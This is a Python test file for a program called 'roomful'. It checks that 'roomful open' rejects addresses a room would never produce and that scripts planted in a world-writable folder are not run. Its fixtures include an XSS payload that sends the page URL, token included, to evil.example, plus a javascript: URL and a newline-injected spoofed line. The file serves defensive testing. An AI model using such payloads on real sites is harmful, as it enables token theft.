"""`roomful open` where a room answers what no room says: it may be another host of a site, or a program broken into."""
import contextlib
import json
import os
import shutil
import socket
import subprocess
import threading

from conftest import PROGRAM
from door import ask
from rooms import desktop

HONEST = "http://127.0.0.1:8720/operator/#t=" + "A" * 43
EVIL = 'https://127.0.0.1:1/"><script>location="https://evil.example/?"+document.URL</script><a href="'


def answering(path, answers):
    """A socket of an operator, behind which somebody answers each task with what is given."""
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(path))
    os.chmod(path, 0o600)
    listener.listen()

    def serve():
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            with contextlib.suppress(OSError), connection, connection.makefile("rwb") as lines:  # Who asked may have ended.
                for line in lines:
                    lines.write(json.dumps(answers.get(json.loads(line)["task"], {})).encode() + b"\n")
                    lines.flush()

    threading.Thread(target=serve, daemon=True).start()
    return listener


def status_of_a_room(started, environment):
    """What a true room says of itself."""
    room = started("host", "True", "--discovery", "none", "--policy", "open")
    for line in room.stdout:
        if "seat" in line:
            break
    run = os.path.join(environment["ROOMFUL_STATE"], "run")
    (name,) = [name for name in os.listdir(run) if name.endswith(".sock")]
    status = ask(os.path.join(run, name), {"task": "status"})[0]["status"]
    room.terminate()
    room.wait(timeout=30)
    return status


def test_an_address_that_no_room_makes_is_not_opened(started, roomful, environment, folder):
    status = status_of_a_room(started, environment)
    shown = desktop(folder)
    path = folder / "state/run/double.sock"
    for answer in (
        {"pages": [EVIL]},
        {"pages": [HONEST, "x\nroomful: spoofed line"]},
        {"pages": [HONEST], "game": EVIL},
        {"pages": [HONEST], "gamePage": EVIL},
        {"pages": [HONEST], "screen": "javascript:alert(1)"},
    ):
        with answering(path, {"status": {"status": status}, "pages": answer}) as listener:
            for arguments in ([], ["--print"], ["--json"]):
                code, out, err = roomful("open", *arguments, **shown)
                assert code == 1 and out == "" and "no room makes" in err, (answer, arguments, out, err)
            listener.shutdown(socket.SHUT_RDWR)
        path.unlink()
    assert not (folder / "opened.html").exists()


def test_what_others_put_beside_the_program_is_not_run(folder, environment):
    """The program alone, in a folder in which everybody may make folders."""
    place = folder / "everybody"
    (place / "op").mkdir(parents=True)
    shutil.copy(PROGRAM, place / "op/roomful")
    (place / "Scripts").mkdir()
    (place / "Recordings/demo").mkdir(parents=True)
    script = place / "Scripts/demo.sh"
    script.write_text(f"#!/bin/sh\ntouch {folder}/ran\n")
    script.chmod(0o755)
    for mode, runs in ((0o1777, False), (0o755, True)):
        place.chmod(mode)
        done = subprocess.run(
            [place / "op/roomful", "demo"], env=environment, capture_output=True, text=True, timeout=60, check=False)
        assert (folder / "ran").exists() == runs, done
    assert done.returncode == 0
